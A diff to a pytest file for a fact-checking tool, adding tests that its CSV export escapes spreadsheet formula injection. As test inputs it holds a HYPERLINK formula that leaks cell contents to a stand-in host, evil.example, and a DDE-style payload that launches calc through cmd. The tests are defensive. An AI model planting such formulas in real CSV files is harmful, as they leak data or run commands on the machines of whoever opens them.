@@ -6,7 +6,7 @@ import json
 import pytest
 
 from checker.claims import add_article, add_claim, set_verdict
-from checker.export import claim_reviews, write_claimreview, write_csv
+from checker.export import claim_reviews, spreadsheet_safe, write_claimreview, write_csv
 
 TEXT = ("The city's budget for 2026 is NZ$1.2 billion, the council said. Turnout was 67 percent.\n\n"
         'The mayor called it "the first balanced budget in a decade", and fined the contractor €2.5 million.')
@@ -80,3 +80,47 @@ def test_csv_round_trips_every_note(desk, note):
     assert (row["id"], row["verdict"], row["health"], row["value"], row["unit"]) == (
         str(claim_id), "partly_accurate", "unchecked", "1200000000", "NZD")
     assert row["source_count"] == "1" and row["supporting"] == "0"
+
+
+# cell -> what the CSV holds: text a spreadsheet would run as a formula gets a leading quote; numbers
+# (negative ones too) and other text stay as they are
+SPREADSHEET_CELLS = [
+    ('=HYPERLINK("https://evil.example/?leak="&A1,"Source")', '\'=HYPERLINK("https://evil.example/?leak="&A1,"Source")'),
+    ("=1+2", "'=1+2"),
+    ("+1+2", "'+1+2"),
+    ("-1+2", "'-1+2"),
+    ("-5", "'-5"),  # text, not a number: escaped like any other
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("A claim = a fact.", "A claim = a fact."),
+    (" =1", " =1"),
+    ("'quoted already", "'quoted already"),
+    ("", ""),
+    (-630000000, -630000000),
+    (-1.5, -1.5),
+    (42, 42),
+    (None, None),
+]
+
+
+@pytest.mark.parametrize("cell,written", SPREADSHEET_CELLS)
+def test_spreadsheet_safe(cell, written):
+    assert spreadsheet_safe(cell) == written
+
+
+def test_csv_cells_never_start_a_formula(desk):
+    """Text a person typed (claim, quote, note, unit) starting with = + - @ is neutralised in the CSV;
+    a negative figure stays a plain number."""
+    claim_id = add_claim(desk, article_id="budget-2026", quote="fined the contractor", kind="other",
+                         claim='=HYPERLINK("https://evil.example/","Click")', value=-2.5e6, unit="@EUR",
+                         date_start="2026")
+    set_verdict(desk, claim_id, "inaccurate", note="+cmd|' /C calc'!A0", by="editor")
+    out = io.StringIO()
+    write_csv(desk, out, claim_ids=[claim_id])
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["claim"] == '\'=HYPERLINK("https://evil.example/","Click")'
+    assert row["verdict_note"] == "'+cmd|' /C calc'!A0"
+    assert row["unit"] == "'@EUR"
+    assert row["value"] == "-2500000"
+    assert row["quote"] == "fined the contractor"
